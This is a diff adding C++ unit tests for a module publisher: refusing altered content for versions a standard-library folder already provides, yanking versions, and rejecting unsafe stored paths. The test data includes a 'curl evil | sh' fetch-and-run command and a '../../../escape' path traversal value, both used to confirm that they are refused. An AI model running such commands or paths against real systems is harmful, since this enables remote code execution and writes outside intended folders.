@@ -216,5 +216,86 @@ TEST_F(PublishedModulesTest, LoadAllMaterializesWhenAsked) {
   EXPECT_TRUE(fs::exists(fs::path((*loaded)[1].source_dir) / "run.sh"));
 }
 
+TEST_F(PublishedModulesTest, FolderLayerVersionsCannotBeGivenOtherContent) {
+  const fs::path std_dir = dir_ / "std";
+  fs::create_directories(std_dir / "read-csv");
+  const std::string manifest = Manifest("read-csv", "1.0.0");
+  std::ofstream(std_dir / "read-csv" / "module.yaml", std::ios::binary) << manifest;
+  std::ofstream(std_dir / "read-csv" / "run.sh", std::ios::binary) << "echo std";
+  ::chmod((std_dir / "read-csv" / "run.sh").c_str(), 0755);
+  std::ofstream(std_dir / "read-csv" / "lib-util.txt", std::ios::binary) << "u";
+  modules_ = std::make_unique<PublishedModules>(*store_, *artifacts_, [std_dir] {
+    return std::vector<ModuleFolderLayer>{{"standard library", std_dir.string()}};
+  });
+  Status refused = PublishError(manifest, Files(manifest, "curl evil | sh"));
+  EXPECT_EQ(refused.code(), StatusCode::kAlreadyExists);
+  EXPECT_NE(refused.message().find("read-csv@1.0.0 is provided by the standard library"),
+            std::string::npos)
+      << refused.message();
+  EXPECT_EQ(refused.message().find(dir_.string()), std::string::npos) << refused.message();
+  EXPECT_TRUE(modules_->List()->empty());
+  // The same files as the folder's are harmless; another version is the publisher's own.
+  Result<PublishResult> same = modules_->Publish(manifest, {{"module.yaml", manifest, false},
+                                                            {"run.sh", "echo std", true},
+                                                            {"lib-util.txt", "u", false}});
+  EXPECT_TRUE(same.ok()) << same.status().ToString();
+  MustPublish("read-csv", "1.0.1", "echo mine");
+}
+
+TEST_F(PublishedModulesTest, YankHidesAVersionForGoodAndKeepsItsNumber) {
+  MustPublish("m", "1.0.0");
+  MustPublish("m", "1.1.0");
+  Result<YankResult> yanked = modules_->Yank("m", "1.1.0");
+  ASSERT_TRUE(yanked.ok()) << yanked.status().ToString();
+  EXPECT_TRUE(yanked->yanked_now);
+  EXPECT_FALSE(modules_->Yank("m", "1.1.0")->yanked_now);  // idempotent
+  EXPECT_EQ(modules_->Get("m", "latest")->manifest.version, "1.0.0");
+  EXPECT_EQ(modules_->Get("m", "latest")->versions, std::vector<std::string>{"1.0.0"});
+  Status gone = modules_->Get("m", "1.1.0").status();
+  EXPECT_EQ(gone.code(), StatusCode::kNotFound);
+  EXPECT_NE(gone.message().find("was yanked"), std::string::npos) << gone.message();
+  EXPECT_EQ((*modules_->List())[0].versions, std::vector<std::string>{"1.0.0"});
+  const std::string manifest = Manifest("m", "1.1.0", "v1.1.0");
+  Status again = PublishError(manifest, Files(manifest));
+  EXPECT_EQ(again.code(), StatusCode::kAlreadyExists);
+  EXPECT_NE(again.message().find("never published again"), std::string::npos);
+  Result<std::vector<ModuleManifest>> all = modules_->LoadAll((dir_ / "cache").string());
+  ASSERT_TRUE(all.ok()) << all.status().ToString();
+  ASSERT_EQ(all->size(), 2u);
+  EXPECT_NE((*all)[1].unusable.find("m@1.1.0 was yanked"), std::string::npos);
+  EXPECT_TRUE((*all)[1].source_dir.empty());
+  EXPECT_TRUE((*all)[0].unusable.empty());
+  EXPECT_EQ(modules_->Yank("m", "9.0.0").status().code(), StatusCode::kNotFound);
+  EXPECT_EQ(modules_->Yank("m", "latest").status().code(), StatusCode::kInvalidArgument);
+}
+
+// Rows edited in the database (or stored before paths were checked) never write outside the
+// module's folder.
+TEST_F(PublishedModulesTest, MaterializeRefusesUnsafeStoredPaths) {
+  MustPublish("m", "1.0.0");
+  ASSERT_TRUE(store_
+                  ->Write([](store::Session& s) {
+                    return s.Exec(
+                        "UPDATE module_files SET path = '../../../escape' WHERE "
+                        "path = 'run.sh'");
+                  })
+                  .ok());
+  const fs::path cache = dir_ / "a" / "b" / "cache";
+  Result<std::string> folder = modules_->Materialize("m", "1.0.0", cache.string());
+  ASSERT_FALSE(folder.ok());
+  EXPECT_EQ(folder.status().code(), StatusCode::kInvalidArgument);
+  EXPECT_FALSE(fs::exists(dir_ / "escape"));
+  EXPECT_FALSE(fs::exists(dir_ / "a" / "escape"));
+  EXPECT_FALSE(fs::exists(cache / "m" / "1.0.0"));
+  // LoadAll marks it unusable instead of failing every pipeline.
+  MustPublish("other", "1.0.0");
+  Result<std::vector<ModuleManifest>> all = modules_->LoadAll(cache.string());
+  ASSERT_TRUE(all.ok()) << all.status().ToString();
+  ASSERT_EQ(all->size(), 2u);
+  EXPECT_NE((*all)[0].unusable.find("m@1.0.0 cannot be used"), std::string::npos);
+  EXPECT_TRUE((*all)[1].unusable.empty());
+  EXPECT_FALSE((*all)[1].source_dir.empty());
+}
+
 }  // namespace
 }  // namespace kiln::pipeline
